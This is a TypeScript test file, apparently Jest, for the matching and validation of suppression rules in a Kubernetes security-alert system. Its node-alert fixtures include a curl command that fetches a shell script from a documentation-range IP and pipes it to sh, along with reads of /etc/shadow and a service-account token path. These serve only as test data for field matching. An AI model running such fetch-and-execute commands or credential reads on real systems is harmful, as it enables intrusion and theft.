import { type Alert } from '../../../shared/alerts/alert';
import {
  fieldValues,
  findSuppressingRule,
  matchesSuppressionRule,
  parseSuppressionRuleBody,
  parseSuppressionRuleName,
  suppressionConditionFields,
  type SuppressionCondition,
} from '../../../shared/alerts/suppressionRule';
import { nodeAlert } from '../../support/alertFixtures';
import { execAlert, privilegedPodAlert, suppressionRule } from '../../support/suppressionRuleFixtures';

const NOW = new Date('2026-11-22T12:00:00.000Z');

describe('matchesSuppressionRule', () => {
  const alert = privilegedPodAlert({ user: 'system:serviceaccount:argocd:argocd-application-controller', namespace: 'monitoring', image: 'contoso.azurecr.io/agents/node-exporter:1.8.0' });

  it('when the rule is enabled, has no conditions and the alert type matches, then it matches', () => {
    expect(matchesSuppressionRule(suppressionRule(), alert, NOW)).toBe(true);
  });

  it('when the rule is disabled, then it does not match', () => {
    expect(matchesSuppressionRule(suppressionRule({ state: 'Disabled' }), alert, NOW)).toBe(false);
  });

  it('when the alert type differs, then it does not match', () => {
    expect(matchesSuppressionRule(suppressionRule({ alertType: 'K8S_ExecIntoPod' }), alert, NOW)).toBe(false);
  });

  it('when the alert type differs only in case, then it does not match (alert types are exact ids)', () => {
    expect(matchesSuppressionRule(suppressionRule({ alertType: 'k8s_privilegedcontainer' }), alert, NOW)).toBe(false);
  });

  it('when the rule is for every alert type (*), then alerts of any type match its conditions', () => {
    const rule = suppressionRule({ alertType: '*', conditions: [{ field: 'namespace', in: ['monitoring'] }] });
    expect(matchesSuppressionRule(rule, alert, NOW)).toBe(true);
    expect(matchesSuppressionRule(rule, execAlert({ namespace: 'monitoring' }), NOW)).toBe(true);
    expect(matchesSuppressionRule(rule, execAlert({ namespace: 'shop' }), NOW)).toBe(false);
  });

  describe('expiry', () => {
    it('when the expiry is one millisecond after now, then it still matches', () => {
      expect(matchesSuppressionRule(suppressionRule({ expirationDateUtc: '2026-11-22T12:00:00.001Z' }), alert, NOW)).toBe(true);
    });

    it('when the expiry is exactly now, then it no longer matches', () => {
      expect(matchesSuppressionRule(suppressionRule({ expirationDateUtc: '2026-11-22T12:00:00.000Z' }), alert, NOW)).toBe(false);
    });

    it('when the expiry is in the past, then it does not match', () => {
      expect(matchesSuppressionRule(suppressionRule({ expirationDateUtc: '2026-01-01T00:00:00.000Z' }), alert, NOW)).toBe(false);
    });

    it('when there is no expiry, then it matches at any time', () => {
      expect(matchesSuppressionRule(suppressionRule(), alert, new Date('2099-01-01T00:00:00Z'))).toBe(true);
    });
  });

  describe('conditions', () => {
    it('when every condition holds, then it matches; when one fails, then it does not', () => {
      const holds: SuppressionCondition = { field: 'namespace', in: ['monitoring'] };
      expect(matchesSuppressionRule(suppressionRule({ conditions: [holds, { field: 'image', contains: 'NODE-exporter' }] }), alert, NOW)).toBe(true);
      expect(matchesSuppressionRule(suppressionRule({ conditions: [holds, { field: 'image', contains: 'nginx' }] }), alert, NOW)).toBe(false);
    });

    it('when `in` values differ from the alert only in case, then they match', () => {
      const rule = suppressionRule({ conditions: [{ field: 'clusterResourceId', in: [alert.clusterResourceId.toUpperCase()] }] });
      expect(matchesSuppressionRule(rule, alert, NOW)).toBe(true);
    });

    it('when `contains` text differs from the alert only in case, then it matches', () => {
      const rule = suppressionRule({ conditions: [{ field: 'account', contains: 'ARGOCD-application' }] });
      expect(matchesSuppressionRule(rule, alert, NOW)).toBe(true);
    });

    it('when `in` holds only a part of the value, then it does not match (in is equality, not substring)', () => {
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field: 'namespace', in: ['kube'] }] }), alert, NOW)).toBe(false);
    });

    it('when any one of several entities of the type matches, then the entity condition holds', () => {
      const impersonating: Alert = {
        ...alert,
        entities: [...alert.entities, { type: 'account', name: 'ci-deployer@contoso.com' }],
      };
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field: 'account', in: ['ci-deployer@contoso.com'] }] }), impersonating, NOW)).toBe(true);
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field: 'account', in: ['someone-else'] }] }), impersonating, NOW)).toBe(false);
    });

    it('when the alert has no entity of the condition type, then the condition fails (never suppress on a missing field)', () => {
      const withoutIp: Alert = { ...alert, entities: alert.entities.filter((e) => e.type !== 'ip') };
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field: 'ip', contains: '.' }] }), withoutIp, NOW)).toBe(false);
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field: 'ip', contains: '.' }] }), alert, NOW)).toBe(true);
    });

    it.each([
      ['alertType', 'K8S_PrivilegedContainer'],
      ['severity', 'Informational'],
      ['cluster', 'aks-prod-01'],
      ['namespace', 'monitoring'],
      ['account', 'system:serviceaccount:argocd:argocd-application-controller'],
      ['ip', '203.0.113.24'],
      ['image', 'contoso.azurecr.io/agents/node-exporter:1.8.0'],
      ['pod', 'web-7d9f8c6b5-x2k4q'],
      ['container', 'web'],
      ['userAgent', 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46'],
      ['resource', 'pods'],
      ['verb', 'create'],
      ['ruleId', 'privileged-container'],
    ] as const)('when the condition is on %s = %s, then it holds for the alert that has it and not for another value', (field, value) => {
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field, in: [value] }] }), alert, NOW)).toBe(true);
      expect(matchesSuppressionRule(suppressionRule({ conditions: [{ field, in: [`${value}-other`] }] }), alert, NOW)).toBe(false);
    });

    it('when the condition is on the request resource of an exec alert, then it sees the subresource', () => {
      const rule = suppressionRule({ alertType: '*', conditions: [{ field: 'resource', in: ['pods/exec'] }] });
      expect(matchesSuppressionRule(rule, execAlert(), NOW)).toBe(true);
      expect(matchesSuppressionRule(rule, alert, NOW)).toBe(false);
    });
  });
});

describe('matchesSuppressionRule on node alerts', () => {
  const rule = (condition: SuppressionCondition) => suppressionRule({ alertType: '*', conditions: [condition] });
  const holds = (condition: SuppressionCondition, alert: Alert) => matchesSuppressionRule(rule(condition), alert, NOW);
  const connection = nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });
  const audit = privilegedPodAlert({ sourceIP: '198.51.100.7' });

  it.each([
    ['node', 'aks-nodepool1-12345678-vmss000000', 'vmss000000'],
    ['processBinary', '/usr/bin/curl', 'curl'],
    ['commandLine', '/usr/bin/curl -s http://203.0.113.50/x.sh', '203.0.113.50/x.sh'],
    ['remoteAddress', '198.51.100.7', '198.51.100'],
    ['filePath', '/etc/shadow', 'shadow'],
  ] as const)('when the condition is on %s, then `in` and `contains` hold for the node alert and not for an audit alert', (field, value, part) => {
    expect(holds({ field, in: [value.toUpperCase()] }, connection)).toBe(true);
    expect(holds({ field, contains: part }, connection)).toBe(true);
    expect(holds({ field, in: [`${value}-other`] }, connection)).toBe(false);
    expect(holds({ field, contains: `${part}-other` }, connection)).toBe(false);
    expect(holds({ field, in: [value] }, audit)).toBe(false);
    expect(holds({ field, contains: part }, audit)).toBe(false);
  });

  it.each([
    ['namespace', 'payments'],
    ['pod', 'api-5f6d7c8b9-q7w8e'],
    ['container', 'api'],
    ['image', 'contoso.azurecr.io/payments/api:2.1.0'],
  ] as const)('when the condition is on %s, then it sees the node alert\'s entities', (field, value) => {
    const alert = nodeAlert({ pod: { namespace: 'payments', name: 'api-5f6d7c8b9-q7w8e', container: 'api', image: 'contoso.azurecr.io/payments/api:2.1.0', workload: 'api' } });
    expect(holds({ field, in: [value] }, alert)).toBe(true);
    expect(holds({ field, contains: value.slice(2, -2) }, alert)).toBe(true);
    expect(holds({ field, in: [value] }, nodeAlert())).toBe(false);
  });

  it('when the process runs on the host, then pod, container, image and namespace conditions fail and node still holds', () => {
    const hostProcess = nodeAlert({ pod: null, node: 'aks-system-98765432-vmss000001' });
    for (const field of ['pod', 'container', 'image', 'namespace'] as const) expect(holds({ field, contains: 'a' }, hostProcess)).toBe(false);
    expect(holds({ field: 'node', in: ['aks-system-98765432-vmss000001'] }, hostProcess)).toBe(true);
  });

  it('when the node is only in the extended properties, then node still holds', () => {
    const alert: Alert = { ...connection, entities: connection.entities.filter((entity) => entity.type !== 'host') };
    expect(holds({ field: 'node', in: ['aks-nodepool1-12345678-vmss000000'] }, alert)).toBe(true);
  });

  it('when the binary or command line is the parent\'s, then the condition holds; when only an ancestor\'s, then it does not', () => {
    expect(holds({ field: 'processBinary', in: ['/bin/sh'] }, connection)).toBe(true);
    expect(holds({ field: 'commandLine', contains: '| sh' }, connection)).toBe(true);
    expect(holds({ field: 'processBinary', in: ['/usr/sbin/nginx'] }, connection)).toBe(false);
    expect(holds({ field: 'commandLine', contains: 'daemon off' }, connection)).toBe(false);
  });

  it('when an audit alert names a command (exec), then commandLine sees it and processBinary does not', () => {
    const exec = execAlert();
    expect(fieldValues(exec, 'commandLine')).toEqual(['sh']);
    expect(holds({ field: 'commandLine', in: ['sh'] }, exec)).toBe(true);
    expect(fieldValues(exec, 'processBinary')).toEqual([]);
  });

  it('when an ip condition names a node alert\'s remote address, then it does not hold (ip is the audit client address), and remoteAddress does not see audit clients', () => {
    expect(holds({ field: 'ip', in: ['198.51.100.7'] }, connection)).toBe(false);
    expect(holds({ field: 'ip', in: ['198.51.100.7'] }, audit)).toBe(true);
    expect(holds({ field: 'remoteAddress', in: ['198.51.100.7'] }, audit)).toBe(false);
  });

  it('when every condition of a rule for a node alert type holds, then the rule dismisses it; when one fails, then it does not', () => {
    const conditions: SuppressionCondition[] = [
      { field: 'namespace', in: ['shop'] },
      { field: 'processBinary', in: ['/usr/bin/curl'] },
      { field: 'remoteAddress', in: ['198.51.100.7'] },
    ];
    expect(matchesSuppressionRule(suppressionRule({ alertType: 'K8S.NODE_FixtureActivity', conditions }), connection, NOW)).toBe(true);
    expect(matchesSuppressionRule(suppressionRule({ alertType: 'K8S.NODE_FixtureActivity', conditions: [...conditions, { field: 'filePath', in: ['/etc/passwd'] }] }), connection, NOW)).toBe(false);
  });
});

describe('fieldValues', () => {
  const nodeFields: readonly string[] = ['node', 'processBinary', 'remoteAddress', 'filePath'];

  it('when asked for every field but the node ones, then a realistic audit alert has a value for each, and none for the node ones', () => {
    const alert = privilegedPodAlert();
    for (const field of suppressionConditionFields) {
      if (nodeFields.includes(field) || field === 'commandLine') expect(fieldValues(alert, field)).toEqual([]);
      else expect(fieldValues(alert, field).length).toBeGreaterThan(0);
    }
  });

  it('when asked for every field but the audit request ones, then a realistic node alert has a value for each', () => {
    const alert = nodeAlert({ remote: { address: '198.51.100.7', port: 443 }, filePath: '/var/run/secrets/kubernetes.io/serviceaccount/token' });
    for (const field of suppressionConditionFields) {
      if (['account', 'ip', 'userAgent', 'resource', 'verb'].includes(field)) expect(fieldValues(alert, field)).toEqual([]);
      else expect(fieldValues(alert, field).length).toBeGreaterThan(0);
    }
  });

  it('when a pod entity carries a namespace with no namespace entity, then namespace still sees it', () => {
    const alert = privilegedPodAlert();
    const podOnly: Alert = {
      ...alert,
      extendedProperties: {},
      entities: [{ type: 'K8s-pod', name: 'debug', namespace: 'payments' }],
    };
    expect(fieldValues(podOnly, 'namespace')).toEqual(['payments']);
  });
});

describe('findSuppressingRule', () => {
  const alert = privilegedPodAlert({ namespace: 'monitoring' });

  it('when several rules match, then the first one is returned', () => {
    const rules = [
      suppressionRule({ name: 'other-namespace', conditions: [{ field: 'namespace', in: ['shop'] }] }),
      suppressionRule({ name: 'monitoring', conditions: [{ field: 'namespace', in: ['monitoring'] }] }),
      suppressionRule({ name: 'all-privileged' }),
    ];
    expect(findSuppressingRule(rules, alert, NOW)?.name).toBe('monitoring');
  });

  it('when no rule matches, then it returns undefined', () => {
    const rules = [suppressionRule({ state: 'Disabled' }), suppressionRule({ alertType: 'K8S_ExecIntoPod' })];
    expect(findSuppressingRule(rules, alert, NOW)).toBeUndefined();
  });
});

describe('parseSuppressionRuleName', () => {
  it.each(['ab', 'csi-driver.privileged_2', 'a'.repeat(50)])('when the name is %s, then it is accepted', (name) => {
    expect(parseSuppressionRuleName(name)).toEqual({ ok: true, value: name });
  });

  it.each(['a', 'a'.repeat(51), 'has space', 'slash/name', 'ümlaut', '', undefined])('when the name is %s, then it is refused naming the parameter', (name) => {
    const result = parseSuppressionRuleName(name);
    expect(result).toMatchObject({ ok: false, field: 'name' });
    expect(result.ok ? '' : result.message).toMatch(/^name must be 2 to 50 characters/);
  });
});

describe('parseSuppressionRuleBody', () => {
  const valid = {
    alertType: 'K8S_PrivilegedContainer',
    reason: 'ExpectedActivity',
    comment: 'CSI driver',
    state: 'Enabled',
    expirationDateUtc: '2027-01-31T01:00:00+01:00',
    conditions: [
      { field: 'namespace', in: ['monitoring'] },
      { field: 'image', contains: 'NODE-exporter' },
    ],
  };

  const problem = (body: unknown) => {
    const result = parseSuppressionRuleBody(body, NOW);
    if (result.ok) throw new Error('expected the body to be refused');
    return result.message;
  };

  it('when the body is valid, then it is accepted with the expiry normalized to UTC', () => {
    expect(parseSuppressionRuleBody(valid, NOW)).toEqual({
      ok: true,
      value: { ...valid, expirationDateUtc: '2027-01-31T00:00:00.000Z' },
    });
  });

  it('when optional fields are left out (or the expiry is null), then the rule has no comment, no expiry and no conditions', () => {
    expect(parseSuppressionRuleBody({ alertType: 'K8S_ExecIntoPod', reason: 'Other', state: 'Disabled', expirationDateUtc: null }, NOW)).toEqual({
      ok: true,
      value: { alertType: 'K8S_ExecIntoPod', reason: 'Other', state: 'Disabled', conditions: [] },
    });
  });

  it.each([
    ['a required field is missing', { ...valid, reason: undefined }, 'reason is required.'],
    ['the alert type is malformed', { ...valid, alertType: 'K8S PrivilegedContainer' }, "alertType must be '*' or an alert type such as K8S_PrivilegedContainer."],
    ['the alert type is not a string', { ...valid, alertType: 7 }, 'alertType must be a string.'],
    ['the reason is unknown', { ...valid, reason: 'Because' }, 'reason must be one of FalsePositive, BenignPositive, ExpectedActivity, Other.'],
    ['the state is unknown', { ...valid, state: 'Expired' }, 'state must be one of Enabled, Disabled.'],
    ['the comment is too long', { ...valid, comment: 'x'.repeat(1001) }, 'comment must be at most 1000 characters.'],
    ['the expiry is not RFC 3339', { ...valid, expirationDateUtc: '2027-01-31' }, 'expirationDateUtc must be an RFC 3339 date and time, e.g. 2027-01-31T00:00:00Z.'],
    ['the expiry is in the past', { ...valid, expirationDateUtc: '2026-11-22T11:59:59Z' }, 'expirationDateUtc must be in the future.'],
    ['the expiry is exactly now', { ...valid, expirationDateUtc: '2026-11-22T12:00:00Z' }, 'expirationDateUtc must be in the future.'],
    ['conditions is not an array', { ...valid, conditions: {} }, 'conditions must be an array.'],
    ['a condition field is unknown', { ...valid, conditions: [valid.conditions[0], { field: 'podName', in: ['x'] }] }, 'conditions[1].field must be one of '],
    ['a condition has an empty `in`', { ...valid, conditions: [{ field: 'namespace', in: [] }] }, 'conditions[0].in must list at least one value.'],
    ['a condition value is empty', { ...valid, conditions: [{ field: 'namespace', in: ['ok', ''] }] }, 'conditions[0].in[1] must not be empty.'],
    ['a condition has both `in` and `contains`', { ...valid, conditions: [{ field: 'namespace', in: ['a'], contains: 'b' }] }, "conditions[0] must have exactly one of 'in' or 'contains'."],
    ['a condition has neither `in` nor `contains`', { ...valid, conditions: [{ field: 'namespace' }] }, "conditions[0] must have exactly one of 'in' or 'contains'."],
    ['a condition has an unknown key', { ...valid, conditions: [{ field: 'namespace', equals: 'a' }] }, 'conditions[0].equals is not a known field.'],
    ['a severity condition names no severity', { ...valid, conditions: [{ field: 'severity', in: ['High', 'Critical'] }] }, 'conditions[0].in[1] must be one of High, Medium, Low, Informational.'],
    ['there are too many conditions', { ...valid, conditions: Array.from({ length: 21 }, () => valid.conditions[0]) }, 'conditions must have at most 20 conditions.'],
    ['the body has an unknown field', { ...valid, suppressionAlertsScope: {} }, 'suppressionAlertsScope is not a known field.'],
    ['the body repeats the name', { ...valid, name: 'x' }, 'name is not a known field.'],
    ['every alert type would be dismissed without a condition', { ...valid, alertType: '*', conditions: [] }, "conditions must have at least one condition when alertType is '*'."],
    ['the body is an array', [valid], 'body must be a JSON object.'],
    ['the body is null', null, 'body must be a JSON object.'],
  ])('when %s, then it is refused naming the field', (_situation, body, message) => {
    expect(problem(body)).toContain(message);
  });

  it.each(['node', 'processBinary', 'commandLine', 'remoteAddress', 'filePath'])('when a condition is on the node field %s, then it is accepted', (field) => {
    const body = { ...valid, alertType: '*', conditions: [{ field, in: ['x'] }, { field, contains: 'y' }] };
    expect(parseSuppressionRuleBody(body, NOW)).toMatchObject({ ok: true, value: { conditions: [{ field, in: ['x'] }, { field, contains: 'y' }] } });
  });

  it('when the condition field is unknown, then the message lists the fields that are allowed', () => {
    expect(problem({ ...valid, conditions: [{ field: 'podName', in: ['x'] }] })).toContain(suppressionConditionFields.join(', '));
  });
});
